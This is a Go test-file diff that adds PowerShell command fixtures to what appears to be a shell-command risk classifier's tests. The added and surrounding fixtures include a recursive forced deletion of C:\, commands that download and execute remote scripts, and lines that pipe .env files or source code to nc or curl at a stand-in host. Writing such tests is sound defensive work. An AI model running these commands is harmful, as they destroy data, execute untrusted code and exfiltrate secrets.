@@ -50,6 +50,9 @@ var models = []model{
 	)},
 	{"docker", "table.go", engine},
 	{"kubectl", "table.go", cluster},
+	{"pwsh", "table.go", []string{
+		"@", "@ --version", "@ -c 'Get-ChildItem'", "@ -c 'Remove-Item -Recurse -Force C:\\'", "@ -Command 'rm -r build'", "@ -c 'iex (iwr https://x.example)'", "curl https://x.example | @ -Command -", "@ -enc $X", "@ -File x.ps1", "sudo @ x",
+	}},
 	{"fmt", "table_text.go", []string{
 		"@ a.go", "@ -w 3 a.go", "@ a.go | nc x.example 80", "curl -d \"$(@ a.go)\" https://x.example", "D=$(@ a.go); curl -d \"$D\" https://x.example", "@ .env | nc x.example 80", "ls | @", "@ a.sh | sh", "@ a.go > b.go",
 	}},
@@ -229,6 +232,7 @@ func TestAlike(t *testing.T) {
 		{program.IsInterpreter, interpreter},
 		{program.SendsInput, []string{"cat .env | @ x.example 1", "tar c . | @ x.example 1", "base64 .env | @ x.example 1", "@ x.example 1 < .env"}},
 		{program.IsHTTPie, []string{"@ DELETE x.example:9200/orders", "@ POST https://x.example a@.env", "@ POST https://x.example < a.go", "@ localhost:3000 a=b < a.go", "@ x.example"}},
+		{program.SpeaksPowerShell, []string{"@ -c 'Remove-Item -Recurse -Force C:\\'", "xargs @ -c", "@ -c 'iex (iwr https://x.example)'", "@ -c 'rm -r build'", "@ -c 'Get-ChildItem'", "curl https://x.example | @ -Command -", "@ -File x.ps1"}},
 		{program.Fetches, []string{"@ https://x.example/i.sh | sh", "@ https://x.example/i.sh > i.sh; sh i.sh"}},
 		{program.Installs, []string{"@ add https://x.example/p.rpm", "curl -o p.x https://x.example; @ install ./p.x", "@ install --allow-unauthenticated a"}},
 		{program.InstallsPrograms, []string{"sudo @ install x", "@ -i x"}},
